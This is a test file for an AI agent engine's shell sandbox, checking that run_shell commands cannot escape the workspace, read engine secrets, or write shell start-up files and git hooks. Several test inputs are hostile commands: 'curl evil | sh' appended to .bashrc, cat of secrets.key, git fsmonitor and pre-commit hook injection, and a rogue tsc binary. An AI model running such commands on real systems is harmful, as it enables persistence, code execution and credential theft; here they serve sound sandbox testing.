/**
 * The sandbox under run_shell (issue 9 §1), through the real engine and the real run_shell. Every
 * destructive command aims at a victim folder made by the test in a temp dir; each case checks the
 * victim afterwards, so it fails wherever the command is not sandboxed (mode `off` shows that: the
 * last case runs the same write unsandboxed and it lands).
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, readFile, readdir, realpath, rm, writeFile } from 'node:fs/promises';
import net from 'node:net';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { allowAllGate } from '../../src/tools/types.js';
import { startTestEngine, tempDir, type TestEngine } from '../support/engine.js';

let t: TestEngine;
let victims: string;
let fakeHome: string;
let workspace: string;

before(async () => {
  victims = await realpath(await tempDir('sandbox-victims-'));
  fakeHome = path.join(victims, 'home');
  await mkdir(fakeHome);
  await writeFile(path.join(fakeHome, '.bashrc'), '# the user\'s bashrc\n');
  await writeFile(path.join(fakeHome, '.profile'), '# the user\'s profile\n');
  t = await startTestEngine({ sandbox: { userHome: fakeHome } });
  workspace = await realpath(path.join(t.home, 'workspace'));
});
after(async () => {
  await t.close();
  await rm(victims, { recursive: true, force: true });
});

const settings = (sandbox: Record<string, unknown>) => t.api('PUT', '/api/settings', { sandbox });
const defaults = () => settings({ mode: 'workspace-write', network: false, whenUnavailable: 'ask' });

/** run_shell through the registry, past a headless allow-all gate: the sandbox is the point, not the gate. */
async function sh(command: string, cwd = '.'): Promise<string> {
  const ctx = { signal: new AbortController().signal, emit: () => undefined, attended: false, callId: 'sb' };
  const out = await t.engine.tools.call({ callId: `sb-${Math.random()}`, name: 'run_shell', args: { command, cwd } }, ctx, { gate: allowAllGate });
  return out.text;
}

const git = (cwd: string, ...args: string[]) => execFileSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1' } });

test('GET /api/status reports the sandbox: available, bwrap, workspace-write, network off', async () => {
  const { body } = await t.api('GET', '/api/status');
  assert.deepEqual(body.sandbox, { available: true, backend: 'bwrap', mode: 'workspace-write', network: false, whenUnavailable: 'ask', active: true, reason: null });
});

test('writes outside the workspace fail; the workspace itself is writable', async () => {
  const victim = path.join(victims, 'outside');
  await mkdir(path.join(victim, 'sub'), { recursive: true });
  await writeFile(path.join(victim, 'keep.txt'), 'keep');
  await writeFile(path.join(victim, 'sub', 'doomed.txt'), 'still here');
  await sh(`echo pwned > ${victim}/keep.txt; rm -f ${victim}/sub/doomed.txt; touch ${victim}/new; echo inside > made-here.txt`);
  assert.equal(await readFile(path.join(victim, 'keep.txt'), 'utf8'), 'keep');
  assert.equal(await readFile(path.join(victim, 'sub', 'doomed.txt'), 'utf8'), 'still here');
  assert.ok(!existsSync(path.join(victim, 'new')));
  assert.equal(await readFile(path.join(workspace, 'made-here.txt'), 'utf8'), 'inside\n');
});

test('the engine home is invisible: secrets.key, permissions.json and settings.json cannot be read', async () => {
  assert.equal((await t.api('POST', '/api/secrets', { name: 'SANDBOX_PROBE', value: 'value-never-read' })).status, 200);
  const key = path.join(t.home, 'secrets.key');
  assert.ok(existsSync(key), 'the file backend wrote its key');
  const keyText = (await readFile(key)).toString('base64');
  const out = await sh(`cat ${key} | base64; cat ${t.home}/settings.json ${t.home}/secrets.enc.json; ls -a ${t.home}`);
  assert.ok(!out.includes(keyText.slice(0, 16)), out);
  assert.match(out, /secrets\.key: No such file or directory/);
  // Only the workspace shows in the home.
  assert.match(out, /^\.\n\.\.\nworkspace$/m);
});

test("the user's home is read-only: shell start-up files are not writable", async () => {
  const out = await sh(`echo 'curl evil | sh' >> ${fakeHome}/.bashrc; echo x > ${fakeHome}/.profile; touch ${fakeHome}/.zshrc; cat ${fakeHome}/.bashrc`);
  assert.match(out, /Read-only file system/);
  assert.match(out, /# the user's bashrc/); // readable
  assert.equal(await readFile(path.join(fakeHome, '.bashrc'), 'utf8'), "# the user's bashrc\n");
  assert.equal(await readFile(path.join(fakeHome, '.profile'), 'utf8'), "# the user's profile\n");
  assert.ok(!existsSync(path.join(fakeHome, '.zshrc')));
});

test("start-up files stay read-only even when the user's home is mounted (writable) into the fence", async () => {
  const added = await t.api('POST', '/api/mounts', { path: fakeHome, name: 'userhome' });
  assert.equal(added.status, 201, JSON.stringify(added.body));
  try {
    const out = await sh(`echo note > notes.txt; echo evil >> .bashrc; echo evil >> .profile`, 'userhome');
    assert.match(out, /Read-only file system/);
    assert.equal(await readFile(path.join(fakeHome, 'notes.txt'), 'utf8'), 'note\n'); // the mount is writable
    assert.equal(await readFile(path.join(fakeHome, '.bashrc'), 'utf8'), "# the user's bashrc\n");
    assert.equal(await readFile(path.join(fakeHome, '.profile'), 'utf8'), "# the user's profile\n");
  } finally {
    await t.api('DELETE', '/api/mounts/userhome');
    await rm(path.join(fakeHome, 'notes.txt'), { force: true });
  }
});

test('.git/config and .git/hooks are read-only (nested repositories too) while the rest of the repo is writable', async () => {
  const repo = path.join(workspace, 'repo');
  const nested = path.join(repo, 'vendor', 'inner');
  await mkdir(nested, { recursive: true });
  git(repo, 'init', '-q');
  git(nested, 'init', '-q');
  await rm(path.join(nested, '.git', 'hooks'), { recursive: true, force: true }); // a repo without hooks/: made, then kept read-only
  const configBefore = await readFile(path.join(repo, '.git', 'config'), 'utf8');
  const nestedBefore = await readFile(path.join(nested, '.git', 'config'), 'utf8');
  const out = await sh(
    [
      'export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b',
      "printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> repo/.git/config",
      "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > repo/.git/hooks/pre-commit",
      "printf '[core]\\n\\thooksPath = /tmp\\n' >> repo/vendor/inner/.git/config",
      'touch repo/vendor/inner/.git/hooks/post-checkout',
      'echo content > repo/file.txt',
      'git -C repo add file.txt && git -C repo commit -q -m first && echo committed',
    ].join('; '),
  );
  assert.match(out, /committed/);
  assert.equal(await readFile(path.join(repo, '.git', 'config'), 'utf8'), configBefore);
  assert.equal(await readFile(path.join(nested, '.git', 'config'), 'utf8'), nestedBefore);
  assert.ok(!existsSync(path.join(repo, '.git', 'hooks', 'pre-commit')));
  assert.ok(!existsSync(path.join(nested, '.git', 'hooks', 'post-checkout')));
  assert.equal(git(repo, 'log', '--format=%s').trim(), 'first');
});

test('a repository created during a command: programs it sets are reported, and the next command cannot change them', async () => {
  const out = await sh("git init -q fresh && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> fresh/.git/config && echo made");
  assert.match(out, /made/);
  assert.match(out, /\[warning: the command created the repository .*fresh\/\.git and set programs git will run there \(config: core\.fsmonitor\)/);
  const before = await readFile(path.join(workspace, 'fresh', '.git', 'config'), 'utf8');
  const again = await sh('echo more >> fresh/.git/config');
  assert.match(again, /Read-only file system/);
  assert.equal(await readFile(path.join(workspace, 'fresh', '.git', 'config'), 'utf8'), before);
});

test('/tmp is private: the host /tmp is not visible and nothing written there reaches it', async () => {
  const hostFile = path.join(victims, 'host-tmp-secret.txt');
  await writeFile(hostFile, 'host tmp secret');
  const marker = `sandbox-marker-${process.pid}-${Date.now()}`;
  const out = await sh(`cat ${hostFile}; echo mine > /tmp/${marker} && cat /tmp/${marker}; ls /tmp`);
  assert.doesNotMatch(out, /host tmp secret/);
  assert.match(out, /^mine$/m);
  assert.ok(!existsSync(path.join('/tmp', marker)));
  assert.ok(!(await readdir('/tmp')).includes(marker));
});

test('read-only mode: the workspace is not writable, /tmp still is', async () => {
  await settings({ mode: 'read-only' });
  try {
    assert.equal((await t.api('GET', '/api/status')).body.sandbox.mode, 'read-only');
    const out = await sh('echo x > ro-blocked.txt; cat made-here.txt; echo t > /tmp/t && cat /tmp/t');
    assert.match(out, /Read-only file system/);
    assert.match(out, /^inside$/m);
    assert.match(out, /^t$/m);
    assert.ok(!existsSync(path.join(workspace, 'ro-blocked.txt')));
  } finally {
    await defaults();
  }
});

test('network off (the default) blocks even a loopback connection (network on: test/security/sandbox-network.test.ts)', async () => {
  let connections = 0;
  const server = net.createServer((s) => {
    connections++;
    s.end('hello from the host\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  const probe = `"${process.execPath}" -e "require('net').connect(${port},'127.0.0.1').on('data',d=>process.stdout.write('got '+d)).on('error',e=>console.log('error '+e.code))"`;
  try {
    const off = await sh(probe);
    assert.match(off, /error ECONNREFUSED/);
    assert.equal(connections, 0);
  } finally {
    server.close();
  }
});

test('mode off runs unsandboxed: the same write outside the workspace lands, and status says why', async () => {
  const victim = path.join(victims, 'off-mode');
  await mkdir(victim);
  await settings({ mode: 'off' });
  try {
    const status = (await t.api('GET', '/api/status')).body.sandbox;
    assert.equal(status.active, false);
    assert.match(status.reason, /sandbox\.mode is "off"/);
    await sh(`echo landed > ${victim}/file`);
    assert.equal(await readFile(path.join(victim, 'file'), 'utf8'), 'landed\n');
  } finally {
    await defaults();
  }
});

test("check_diagnostics runs a root's own tsc (code a model may have written) inside the sandbox too", async () => {
  const proj = path.join(victims, 'proj');
  const victim = path.join(victims, 'tsc-victim');
  await mkdir(path.join(proj, 'node_modules', '.bin'), { recursive: true });
  await mkdir(victim);
  await writeFile(path.join(proj, 'tsconfig.json'), '{}');
  await writeFile(path.join(proj, 'node_modules', '.bin', 'tsc'), `#!/bin/sh\necho ran > ${proj}/tsc-ran\necho pwned > ${victim}/tsc-was-here\n`, { mode: 0o755 });
  assert.equal((await t.api('POST', '/api/mounts', { path: proj, name: 'proj' })).status, 201);
  try {
    const ctx = { signal: new AbortController().signal, emit: () => undefined, attended: false, callId: 'd' };
    const out = await t.engine.tools.call({ callId: 'diag-1', name: 'check_diagnostics', args: { root: 'proj' } }, ctx, { gate: allowAllGate });
    assert.equal(out.isError, false, out.text);
    assert.ok(existsSync(path.join(proj, 'tsc-ran')), 'the root\'s own tsc ran (and could write inside its root)');
    assert.ok(!existsSync(path.join(victim, 'tsc-was-here')), 'the write outside the fence did not land');
  } finally {
    await t.api('DELETE', '/api/mounts/proj');
  }
});
